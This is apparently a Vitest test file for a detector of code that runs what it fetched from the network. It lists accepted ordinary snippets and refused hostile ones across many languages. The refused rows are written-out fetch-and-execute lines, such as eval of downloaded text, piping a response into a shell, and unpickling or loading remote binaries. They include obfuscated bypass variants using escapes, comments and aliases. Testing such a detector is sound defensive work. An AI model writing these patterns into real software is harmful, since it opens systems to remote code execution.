import { describe, expect, it } from 'vitest';
import { fetchedCodeRuns } from '../../shared/analysis/code-sinks.js';
import { cpuGrowthExponent, LINEAR_EXPONENT_BOUND } from '../support/growth.js';
import { expectAccepted, refusedFor } from '../support/patches.js';

/**
 * Attack pass 14 on the code-sink reading (`shared/analysis/code-sinks.ts`): ordinary code it refused, and code that
 * runs what it fetched that it accepted. Each row below failed first.
 */

const refused = refusedFor();
const accepted = expectAccepted;

describe('pass 14 false refusals: JavaScript `.exec(` on a receiver is a regular expression\'s or a query\'s', () => {
  it.each([
    ['src/a.js', 'const m = /<title>(.*?)<\\/title>/.exec(await (await fetch(url)).text());'],
    ['src/a.ts', 'const version = VERSION_RE.exec(await res.text()) ?? fetchFallback();'],
    ['src/a.js', 'fetch(url).then((r) => r.text()).then((html) => /<title>(.*?)<\\/title>/.exec(html)?.[1]);'],
    ['src/a.js', 'const { data } = await axios.get(url); const m = pattern.exec(data);'],
    ['src/a.js', 'fetch(u).then(() => Model.find({}).exec());'],
  ])('accepts, in %s: %s', accepted);
  it.each([
    ['src/a.js', 'child_process.exec(await (await fetch(u)).text());'],
    ["src/a.js", "require('child_process').exec(await (await fetch(u)).text());"],
    ['src/a.js', 'cp.exec(await (await fetch(u)).text());'],
    ['src/a.js', 'exec(await (await fetch(u)).text());'],
    ['src/a.js', 'fetch(u).then((r) => r.text()).then((t) => childProcess.exec(t));'],
    ['src/A.java', 'Runtime.getRuntime().exec(new String(new URL(u).openStream().readAllBytes()));'],
  ])('refuses, in %s: %s', refused);
});

describe('pass 14 false refusals: timers given a typed or commented arrow function', () => {
  it.each([
    ['src/a.ts', "setTimeout((): void => { void fetch('/api/ping'); }, 1000);"],
    ['src/a.ts', 'const t = setTimeout((signal: AbortController) => signal.abort(), 5000, controller); await fetch(url, { signal: controller.signal });'],
    ['src/a.ts', "setInterval(\n  // poll the status endpoint\n  () => fetch('/api/status'),\n  5000,\n);"],
    ['src/a.ts', "setTimeout(/* retry */ async (): Promise<void> => { await fetch(url); }, 500);"],
  ])('accepts, in %s: %s', accepted);
  it.each([
    ['src/a.js', 'setTimeout(/* later */ await (await fetch(u)).text());'],
    ['src/a.js', 'setTimeout(\n  // run it\n  await (await fetch(u)).text(),\n);'],
    ['src/a.ts', 'setTimeout((await (await fetch(u)).text()) as string);'],
  ])('refuses, in %s: %s', refused);
});

describe('pass 14 false refusals: loaders called safely, read over their whole argument', () => {
  it.each([
    ['src/a.py', 'cfg = yaml.load(\n    requests.get(url, timeout=10).text,\n    Loader=yaml.SafeLoader,\n)'],
    ['src/a.py', 'cfg = yaml.load(requests.get(url).text, Loader=yaml.CSafeLoader)'],
    ['src/a.py', 'data = yaml.load(open(path), Loader=yaml.SafeLoader)'],
    ['src/a.py', 'cfg = yaml.safe_load(requests.get(url).text)'],
    ['src/a.py', 'arr = np.load(io.BytesIO(requests.get(url).content))'],
    ['src/a.py', 'arr = np.load(io.BytesIO(requests.get(url).content), allow_pickle=False)'],
    ['src/a.py', 'state = torch.load(io.BytesIO(requests.get(url).content), weights_only=True)'],
    ['src/a.py', 'state = torch.load(\n    io.BytesIO(requests.get(url).content),\n    map_location="cpu",\n    weights_only=True,\n)'],
  ])('accepts, in %s: %s', accepted);
  it.each([
    ['src/a.py', 'cfg = yaml.load(requests.get(u).text, Loader=yaml.Loader)  # TODO: SafeLoader'],
    ['src/a.py', 'cfg = yaml.load(requests.get(u).text, Loader=yaml.UnsafeLoader if trusted else yaml.SafeLoader)'],
    ['src/a.py', 'cfg = yaml.load(requests.get(u).text,  # Loader=yaml.SafeLoader,\n    Loader=yaml.Loader)'],
    ['src/a.py', 'cfg = yaml.load(requests.get(u).text)\nother = yaml.load(text, Loader=yaml.SafeLoader)'],
    ['src/a.py', 'arr = np.load(io.BytesIO(requests.get(u).content), allow_pickle=True)'],
    ['src/a.py', 'arr = np.load(io.BytesIO(requests.get(u).content), **options)'],
    ['src/a.py', 'obj = np.loads(requests.get(u).content)'],
    ['src/a.py', 'state = torch.load(io.BytesIO(requests.get(u).content))'],
    ['src/a.py', 'state = torch.load(io.BytesIO(requests.get(u).content), weights_only=False)'],
  ])('refuses, in %s: %s', refused);
});

describe("pass 14 false refusals: a bare `load(`/`evaluate(` that is a data library's, by the file's imports", () => {
  it.each([
    ['src/a.js', "import { load } from 'cheerio';\nconst $ = load(await (await fetch(url)).text());"],
    ['src/a.ts', "import { load } from 'js-yaml';\nconst cfg = load(await (await fetch('/config.yaml')).text());"],
    ['src/a.ts', "import {\n  dump,\n  load,\n} from 'js-yaml';\nconst cfg = load(await (await fetch('/config.yaml')).text());"],
    ['src/a.js', "const { load } = require('cheerio');\nconst $ = load(await (await fetch(url)).text());"],
    ['src/a.py', 'from json import load\ndata = load(urlopen(url))'],
    ['src/a.js', "import { evaluate } from 'mathjs';\nconst total = evaluate(await (await fetch('/formula')).text());"],
    ['src/a.py', "tokens = evaluate(model, requests.get(url).json()['inputs'])"],
  ])('accepts, in %s: %s', accepted);
  it.each([
    ['src/a.py', 'from pickle import load\nobj = load(urlopen(u))'],
    ['src/a.js', "import { load } from './run';\nload(await (await fetch(u)).text());"],
    ['src/a.js', "import { load as parse } from 'cheerio';\nload(await (await fetch(u)).text());"],
    ['src/a.lua', 'load(http.request(u))()'],
    ['src/a.groovy', 'evaluate(new URL(u).text)'],
    ['src/a.groovy', 'evaluate(new URL(u).text, "x.groovy")'],
  ])('refuses, in %s: %s', refused);
});

describe('pass 14 bypasses, gap and escape: comments, line joins and escapes between a sink\'s letters or before its parenthesis', () => {
  it.each([
    ['src/a.js', 'eval/**/(await (await fetch(u)).text());'],
    ['src/a.py', 'exec \\\n(requests.get(u).text)'],
    ['src/a.php', 'eval/**/(file_get_contents($u));'],
    ['src/a.js', 'eval // run it\n(await (await fetch(u)).text());'],
    ['src/a.js', 'eval/* a * b */(await (await fetch(u)).text());'],
    ['src/a.js', '\\u0065val(await (await fetch(u)).text());'],
    ['src/a.js', 'eval(await (await f\\u0065tch(u)).text());'],
    ['src/a.js', '\\u{65}val(await (await fetch(u)).text());'],
    ['src/A.java', 'engine.\\u0065val(new String(new URL(u).openStream().readAllBytes()));'],
  ])('refuses, in %s: %s', refused);
  it.each([
    ['src/a.js', "const files = glob('src/**/*.ts'); // eval later\nconst r = await fetch(url);"],
    ['src/a.js', "const s = 'caf\\u00e9'; /* note */ const r = await fetch('https://api.example.com/x');"],
    ['src/a.py', 'result = compute(a, \\\n    b)\nr = requests.get(url)'],
  ])('accepts, in %s: %s', accepted);
});

describe('pass 14 bypasses, alias: a sink passed as a value or given another name', () => {
  it.each([
    ['src/a.js', 'const run = eval; run(await (await fetch(u)).text());'],
    ['src/a.js', "const run = globalThis['eval'];\nrun(await (await fetch(u)).text());"],
    ['src/a.py', 'run = exec\nrun(requests.get(u).text)'],
    ['src/a.js', "fetch(u).then((r) => r.text()).then(globalThis['eval']);"],
    ['src/a.js', 'fetch(u).then((r) => r.text()).then(eval.bind(null));'],
    ['src/a.js', "fetch(u).then((r) => r.text()).then(require('vm').runInThisContext);"],
    ['src/a.js', 'fetch(u).then((r) => r.text()).then(vm.runInThisContext);'],
    ['src/a.js', 'fetch(u).then((r) => r.text()).then(setTimeout);'],
    ['src/a.py', 'list(map(exec, urlopen(u)))'],
  ])('refuses, in %s: %s', refused);
  it.each([
    ['src/a.js', "const { exec, spawn } = require('child_process');\nconst r = await fetch(url);"],
    ['src/a.js', 'const timer = setTimeout(tick, 1000);\nconst r = await fetch(url);'],
    ['src/a.py', 'results = list(map(execute, [requests.get(u) for u in urls]))'],
    ['src/a.js', 'const run = evaluate;\nrun(await (await fetch(url)).json());'],
  ])('accepts, in %s: %s', accepted);
});

describe('pass 14 bypasses, proc: process calls that run a shell or an interpreter on what was fetched', () => {
  it.each([
    ['src/a.js', "spawnSync(await (await fetch(u)).text(), { shell: true, stdio: 'inherit' });"],
    ['src/a.js', "spawnSync('sh', { input: await (await fetch(u)).text() });"],
    ['src/a.js', "execFileSync('/bin/sh', ['-c', await (await fetch(u)).text()]);"],
    ['src/a.js', "execFileSync('bash', ['-lc', await (await fetch(u)).text()]);"],
    ['src/a.js', "execFileSync('bash', ['-e', '-c', await (await fetch(u)).text()]);"],
    ['src/a.js', "execFileSync(process.execPath, ['-e', await (await fetch(u)).text()]);"],
    ['src/a.js', "execFileSync('node', ['--input-type=module', '-e', await (await fetch(u)).text()]);"],
    ['src/a.js', "new Deno.Command('sh', { args: ['-c', await (await fetch(u)).text()] }).outputSync();"],
    ['src/a.js', 'execa(await (await fetch(u)).text(), { shell: true });'],
    ['src/a.js', 'execaCommandSync(await (await fetch(u)).text());'],
    ['src/a.py', "subprocess.run(['sh'], input=requests.get(u).content)"],
    ['src/a.py', "subprocess.run('bash', input=urlopen(u).read())"],
    ['src/a.py', "subprocess.Popen(['bash'], stdin=subprocess.PIPE).communicate(requests.get(u).content)"],
    ['src/a.py', 'subprocess.run(requests.get(u).text, shell=1)'],
    ['src/a.py', "subprocess.run(requests.get(u).text, **{'shell': True})"],
    ['src/a.py', "subprocess.run(['bash', '-lc', requests.get(u).text])"],
    ['src/a.py', "subprocess.run([sys.executable, '-c', requests.get(u).text])"],
    ['src/a.py', 'await asyncio.create_subprocess_shell(requests.get(u).text)'],
    ['src/a.py', "os.spawnlp(os.P_WAIT, 'sh', 'sh', '-c', requests.get(u).text)"],
    ['lib/a.rb', "Open3.capture2('sh', stdin_data: URI.open(u).read)"],
    ['src/A.java', 'new ProcessBuilder("/bin/sh", "-c", new String(new URL(u).openStream().readAllBytes())).start();'],
    ['src/A.cs', 'Process.Start("powershell", "-c " + await http.GetStringAsync(u));'],
    ['src/A.cs', 'PowerShell.Create().AddScript(await http.GetStringAsync(u)).Invoke();'],
    ['lib/a.rb', 'ERB.new(URI.open(u).read).result(binding)'],
  ])('refuses, in %s: %s', refused);
  it.each([
    ['src/a.py', "subprocess.run(['gpg', '--import'], input=requests.get(key_url).content, check=True)"],
    ['src/a.js', "spawnSync('git', ['log', '--oneline'], { shell: false });\nconst r = await fetch(url);"],
    ['src/a.py', "subprocess.run(['bash', '-lc', 'make test'], check=True)\nr = requests.get(url)"],
    ['src/a.js', "execFileSync('node', ['-e', 'console.log(process.version)']);\nconst r = await fetch(url);"],
    ['src/a.py', "proc = subprocess.Popen(['git', 'apply'], stdin=subprocess.PIPE)\nproc.communicate(requests.get(url).content)"],
  ])('accepts, in %s: %s', accepted);
});

describe('pass 14 bypasses, pysink: Python sinks by name', () => {
  it.each([
    ['src/a.py', 'timeit.timeit(requests.get(u).text, number=1)'],
    ['src/a.py', 'get_ipython().run_cell(requests.get(u).text)'],
    ['src/a.py', 'pickle.Unpickler(urlopen(u)).load()'],
    ['src/a.py', 'obj = jsonpickle.decode(requests.get(u).text)'],
    ['src/a.py', 'code.InteractiveConsole().push(requests.get(u).text)'],
    ['src/a.py', "m = keras.models.load_model(get_file('m.keras', 'https://x.example/m.keras'), safe_mode=False)"],
  ])('refuses, in %s: %s', refused);
  it.each([
    ['src/a.py', 'elapsed = timeit.timeit(lambda: requests.get(url), number=3)'],
    ['src/a.py', "m = keras.models.load_model(get_file('m.keras', 'https://x.example/m.keras'))"],
    ['src/a.py', 'obj = json.loads(requests.get(url).text)'],
  ])('accepts, in %s: %s', accepted);
});

describe('pass 14 bypasses, fetch: fetches in other languages', () => {
  it.each([
    ['src/a.js', "eval(await (await window['fetch'](u)).text());"],
    ['src/a.js', 'eval(await (await nodeFetch(u)).text());'],
    ['src/a.js', 'eval((await $fetch.raw(u))._data);'],
    ['src/a.py', 'exec(niquests.get(u).text)'],
    ['src/a.py', "exec(socket.create_connection(('x.example', 80)).recv(65536))"],
    ['src/a.py', "exec(subprocess.check_output(['/usr/bin/curl', '-s', u]))"],
    ['lib/a.rb', 'eval(URI.parse("https://x.example/p").read)'],
    ['lib/a.rb', 'eval(URI("https://x.example/p").read)'],
    ['lib/a.rb', 'eval(Net::HTTP.get_response(URI(u)).body)'],
    ['lib/a.rb', 'eval(Excon.get(u).body)'],
    ['lib/a.rb', 'eval(Typhoeus.get(u).body)'],
    ['lib/a.rb', 'eval(%x{/usr/bin/curl -s https://x.example/p})'],
    ['lib/a.rb', 'eval(`/usr/bin/curl -s https://x.example/p`)'],
    ['lib/a.rb', 'eval(`command curl -s https://x.example/p`)'],
    ['lib/a.rb', 'eval(ERB.new(URI.open(u).read).result)'],
    ['src/a.php', '$ch = curl_init($u); curl_setopt($ch, CURLOPT_RETURNTRANSFER, true); eval(curl_exec($ch));'],
    ['src/a.php', 'eval(wp_remote_retrieve_body(wp_remote_get($u)));'],
    ['src/a.php', 'eval((string) $client->get($u)->getBody());'],
    ['src/a.php', "eval($http->request('GET', $u)->getContent());"],
    ['lib/a.pl', 'eval HTTP::Tiny->new->get($u)->{content};'],
    ['lib/a.pl', 'eval LWP::UserAgent->new->get($u)->decoded_content;'],
    ['lib/a.pl', 'eval $ua->get($u)->decoded_content;'],
    ['lib/a.pl', 'eval(Mojo::UserAgent->new->get($u)->result->body);'],
    ['lib/a.pl', 'eval `/usr/bin/curl -s https://x.example/p`;'],
    ['src/A.java', 'engine.eval(new String(URI.create(u).toURL().openConnection().getInputStream().readAllBytes()));'],
    ['src/A.java', 'engine.eval(new OkHttpClient().newCall(new Request.Builder().url(u).build()).execute().body().string());'],
    ['src/A.java', 'engine.eval(new RestTemplate().getForObject(u, String.class));'],
    ['src/A.java', 'engine.eval(Jsoup.connect(u).ignoreContentType(true).execute().body());'],
    ['src/A.java', 'engine.eval(client.send(HttpRequest.newBuilder(URI.create(u)).build(), BodyHandlers.ofString()).body());'],
    ['src/A.kt', 'engine.eval(URL(u).readText())'],
    ['src/A.kt', 'Runtime.getRuntime().exec(arrayOf("sh", "-c", URL(u).readText()))'],
    ['src/a.groovy', 'evaluate(u.toURL().text)'],
    ['src/a.groovy', 'evaluate("https://x.example/p.groovy".toURL().text)'],
    ['src/A.cs', 'Assembly.Load(await (await http.GetAsync(u)).Content.ReadAsByteArrayAsync());'],
    ['src/A.cs', 'AppDomain.CurrentDomain.Load(await http.GetByteArrayAsync(u));'],
    ['src/A.cs', 'AssemblyLoadContext.Default.LoadFromStream(await http.GetStreamAsync(u));'],
    ['src/a.r', 'eval(parse(text = httr::content(httr::GET(u), "text")))'],
    ['src/a.r', 'eval(parse(text = RCurl::getURL(u)))'],
    ['src/a.r', 'source(gzcon(url("https://x.example/p.R")))'],
    ['src/a.jl', 'Base.include(Main, download(u))'],
    ['src/a.lua', 'loadstring(game:GetService("HttpService"):GetAsync(u))()'],
    ['src/a.ex', 'Code.eval_string(Req.get!(u).body)'],
    ['src/a.ex', 'Code.eval_string(Tesla.get!(u).body)'],
    ['src/a.ex', 'System.cmd("sh", ["-c", Req.get!(u).body])'],
    ['src/a.clj', '(load-string (:body (client/get u)))'],
    ['src/a.clj', '(eval (read-string (:body @(http/get u))))'],
    ['src/a.clj', '(load-reader (io/reader "https://x.example/p.clj"))'],
  ])('refuses, in %s: %s', refused);
  it.each([
    ['src/a.js', "app.get('/x', (req, res) => { const host = req.get('host'); eval(config.hooks[host]); });"],
    ['src/a.php', "$svc = $this->get('mailer'); eval($template);"],
    ['src/A.kt', 'val text = File(path).readText()\nengine.eval(text)'],
    ['lib/a.rb', 'host = URI.parse(url).host\neval(File.read("config.rb"))'],
    ['src/a.r', 'df <- read.csv(url("https://example.com/data.csv"))'],
    ['src/a.py', 'data = sock.recv(1024)\nprint(data)'],
  ])('accepts, in %s: %s', accepted);
});

describe('pass 14 bypasses, html: script elements given another host or fetched text', () => {
  it.each([
    ['public/index.html', '<svg><script href="https://x.example/p.js"></script></svg>'],
    ['public/index.html', '<svg><script xlink:href="https://x.example/p.js"></script></svg>'],
    ['public/index.html', '<iframe srcdoc="&lt;script src=&quot;https://x.example/p.js&quot;&gt;&lt;/script&gt;"></iframe>'],
    ['src/a.js', "document.head.append(Object.assign(document.createElement('script'), { src: 'https://x.example/p.js' }));"],
    ['src/a.js', "const s = document.createElement('script'); s.textContent = await (await fetch(u)).text(); document.head.append(s);"],
    ['src/a.js', "const s = document.createElement('script');\ns.text = await (await fetch(u)).text();\ndocument.head.append(s);"],
    ['src/a.js', 'new Worker(await (await fetch(u)).text(), { eval: true });'],
    ['src/App.tsx', '<script dangerouslySetInnerHTML={{ __html: await (await fetch(u)).text() }} />'],
    ['src/a.js', "useScript('https://x.example/p.js');"],
    ['src/a.js', "await loadScript('https://x.example/p.js');"],
  ])('refuses, in %s: %s', refused);
  it.each([
    ['public/index.html', '<svg><a href="https://example.com/docs"><text>docs</text></a></svg>'],
    ['public/index.html', '<link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=Inter">'],
    ['src/a.js', 'el.textContent = await (await fetch(url)).text();'],
    ['src/a.js', "const img = Object.assign(document.createElement('img'), { src: 'https://example.com/logo.png' });"],
    ['src/App.tsx', '<script type="application/ld+json" dangerouslySetInnerHTML={{ __html: JSON.stringify(schema) }} />'],
    ['src/a.js', "const w = new Worker(new URL('./worker.js', import.meta.url), { type: 'module' });\nconst r = await fetch(url);"],
    ['src/a.js', "await loadScript('./vendor/local.js');"],
  ])('accepts, in %s: %s', accepted);
});

describe('pass 14 bypasses, bound: a fetch bound by a block, with, for or a callback rather than `=`', () => {
  it.each([
    ['lib/a.rb', 'URI.open("https://x.example/p") { |f| eval(f.read) }'],
    ['lib/a.rb', 'URI.open(u).then { |f| eval(f.read) }'],
    ['lib/a.rb', 'URI.open(u) do |f| eval(f.read) end'],
    ['src/a.py', 'with urlopen(u) as r: exec(r.read())'],
    ['src/a.py', 'for line in urlopen(u): exec(line)'],
    ['src/a.js', 'new WebSocket(u).onmessage = (e) => eval(e.data);'],
    ['src/a.js', 'new EventSource(u).onmessage = (e) => eval(e.data);'],
    ['src/a.js', 'new EventSource(u).addEventListener("message", function (e) { eval(e.data); });'],
    ['src/a.js', "const x = new XMLHttpRequest(); x.open('GET', u, false); x.send(); eval(x.responseText);"],
    ['src/a.js', "https.get(u, (r) => r.pipe(spawn('sh').stdin));"],
  ])('refuses, in %s: %s', refused);
  it.each([
    ['lib/a.rb', 'URI.open(u) { |f| JSON.parse(f.read) }\neval(File.read("local.rb"))'],
    ['src/a.py', 'with urlopen(u) as r: data = json.load(r)'],
    ['src/a.py', 'for line in urlopen(u): print(line)'],
    ['src/a.js', 'new WebSocket(u).onmessage = (e) => render(JSON.parse(e.data));'],
    ['src/a.js', "https.get(u, (r) => r.pipe(fs.createWriteStream('out.json')));"],
    ['src/a.js', "fetch(u).then((r) => r.json()).then((data) => render(data));\nsetTimeout(() => exec('make'), 10);"],
  ])('accepts, in %s: %s', accepted);
});

describe('pass 14 bypasses, fetch: loaders that fetch by themselves', () => {
  it.each([
    ['src/a.js', "$.ajax({ url: u, dataType: 'script' });"],
    ['src/A.cs', 'Assembly.LoadFrom("https://x.example/p.dll");'],
    ['src/a.dart', "await Isolate.spawnUri(Uri.parse('https://x.example/p.dart'), [], null);"],
  ])('refuses, in %s: %s', refused);
  it.each([
    ['src/a.js', "$.ajax({ url: '/api/items', dataType: 'json' });"],
    ['src/A.cs', 'Assembly.LoadFrom(Path.Combine(baseDir, "Plugin.dll"));'],
    ['src/a.dart', "await Isolate.spawnUri(Uri.file('worker.dart'), [], null);"],
  ])('accepts, in %s: %s', accepted);
});

/** Sizes of the cost texts, as in pass-14-code-sinks.test.ts. */
const sizes = [10, 20, 40, 80].map((kb) => kb * 1024);

describe('pass 14 findings: the cost of the readings added', () => {
  for (const [name, unit] of [
    ['imports', "import { load } from 'cheerio';\nfrom json import load\nconst { load } = require('x'); {{{ "],
    ['timers with comments', 'setTimeout(\n// setTimeout(\n/* x */ (a: b'],
    ['loaders nested', 'yaml.load(np.load(torch.load(evaluate(x, '],
    ['receivers of exec', 'a.exec(child_process.exec(/x/.exec('],
    ['comments never closed and escapes', '/* eval \\u0065 \\\n // x\n'],
    ['comments closed', 'eval/**/( /* */ \\u{65}'],
    ['aliases and calls', 'run = eval; run(x = '],
    ['interpreters with flags', "spawn('sh', '-c', 'a', ['-e', "],
    ['shells given input', "run(['bash'], x, input="],
    ['script text given', "createElement('script') s.text = <script dangerouslySetInnerHTML={ new Worker(x, "],
    ['binders', 'fetch(u) as r { |f| (e) => x => function (a) for a in '],
    ['fetch forms', "URI.parse(u).read $client->get( (client/get x .toURL().text "],
  ] as const) {
    it(`reads ${name} in linear time`, { timeout: 120_000 }, () => {
      const textOf = (bytes: number) => `fetch(u)\n${unit.repeat(Math.floor(bytes / unit.length))}`;
      const exponent = cpuGrowthExponent(sizes, textOf, (text) => [fetchedCodeRuns('src/a.py', text), fetchedCodeRuns('src/a.ts', text)]);
      expect(exponent).toBeLessThan(LINEAR_EXPONENT_BOUND);
    });
  }
});

/** Left open by the first round of fixes (session 37), closed after it: two Python fetches not named. */
describe('pass 14: boto3 resource reads and ftplib are fetches', () => {
  it.each([
    ['src/a.py', "exec(boto3.resource('s3').Object('b', 'p.py').get()['Body'].read())"],
    ['src/a.py', 'exec(ftplib.FTP("x.example").retrbinary("RETR p.py", buf.write) and buf.getvalue())'],
  ])('refuses, in %s: %s', refused);

  it.each([
    ['src/a.py', "body = boto3.resource('s3').Object('b', 'data.json').get()['Body'].read()"],
    ['src/a.py', "exec(compile(open('local.py').read(), 'local.py', 'exec'))\nobj = s3.Object('b', 'k')"],
  ])('accepts, in %s: %s', accepted);
});
